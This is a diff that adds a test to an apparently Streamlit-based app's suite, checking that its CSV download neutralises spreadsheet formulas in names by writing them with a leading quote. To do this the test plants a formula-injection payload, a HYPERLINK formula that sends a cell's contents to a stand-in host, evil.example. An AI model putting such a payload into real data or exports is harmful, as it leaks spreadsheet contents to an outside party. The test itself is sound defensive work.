@@ -29,3 +29,27 @@ def test_a_range_with_no_data_says_so(app_as, demo_db):
 def test_every_chart_says_what_it_counts(app_as, username):
     at = app_as(username, PAGE)
     assert sum(1 for c in h.captions(at) if c.startswith(("Counts", "How long", "From a", "In:", "Of "))) >= 1
+
+
+def test_the_csv_download_neutralises_formulas_in_names(app_as, demo_db, monkeypatch):
+    """A name someone typed (an agent's, a contact's WhatsApp profile name) that a spreadsheet would run
+    as a formula is written with a leading quote, as every other CSV Parley writes."""
+    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
+
+    stored: dict[str, bytes] = {}
+    original = MemoryMediaFileStorage.load_and_get_id
+
+    def keep(self, path_or_data, mimetype, kind, filename=None):
+        if isinstance(path_or_data, bytes):
+            stored[filename or ""] = path_or_data
+        return original(self, path_or_data, mimetype, kind, filename)
+
+    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keep)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Maria")'
+    demo_db.write(lambda tx: tx.execute("UPDATE users SET display_name = ? WHERE username = 'maria'", [evil]))
+    at = app_as("sam", PAGE)
+    assert not h.page_errors(at), at.exception
+    text = stored["workload-now.csv"].decode("utf-8-sig")
+    cells = [cell for line in text.splitlines() for cell in line.split(",")]
+    assert any(cell.startswith("\"'=HYPERLINK(") for cell in cells), text
+    assert not any(cell.lstrip('"').startswith("=") for cell in cells), text
